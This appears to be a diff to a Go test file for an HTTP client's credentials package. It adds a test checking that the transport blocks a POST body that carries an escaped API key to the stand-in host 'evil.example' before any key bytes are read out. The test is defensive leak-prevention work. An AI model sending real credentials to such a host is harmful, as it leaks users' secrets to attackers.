@@ -3,11 +3,13 @@ package credentials_test
 import (
 	"errors"
 	"fmt"
+	"io"
 	"net/http"
 	"net/http/httptest"
 	"strings"
 	"sync/atomic"
 	"testing"
+	"testing/iotest"
 
 	"github.com/steadyhttp/steady/credentials"
 	"github.com/steadyhttp/steady/internal/wiretest"
@@ -129,4 +131,28 @@ func FuzzRedactorEscapedForms(f *testing.F) {
 			t.Fatalf("String(%q) = %q; want it unchanged", plain, r.String(plain))
 		}
 	})
+}
+
+// A body to a foreign origin with the key escaped, read a byte at a time,
+// is refused before any byte of the escaped key is handed out.
+func TestGuardedBodyFindsAnEscapedKey(t *testing.T) {
+	t.Parallel()
+	key := credentials.Key{Header: "X-Api-Key", Value: encodedKey, Hosts: []string{"https://api.example.gov"}}
+	for name, form := range wiretest.Forms(encodedKey) {
+		body := strings.Repeat("x", 3000) + "k=" + form + "&tail"
+		req, _ := http.NewRequest(http.MethodPost, "https://evil.example/upload", iotest.OneByteReader(strings.NewReader(body)))
+		var got []byte
+		var readErr error
+		next := roundTripFunc(func(r *http.Request) (*http.Response, error) {
+			got, readErr = io.ReadAll(r.Body)
+			return &http.Response{StatusCode: http.StatusOK, Body: http.NoBody, Request: r}, nil
+		})
+		if _, err := credentials.NewTransport(next, key).RoundTrip(req); err != nil {
+			t.Fatal(err)
+		}
+		var le *credentials.LeakError
+		if !errors.As(readErr, &le) || strings.Contains(string(got), "k="+form[:min(len(form), 12)]) {
+			t.Errorf("%s: read %d bytes, %v; want a *LeakError before the key", name, len(got), readErr)
+		}
+	}
 }
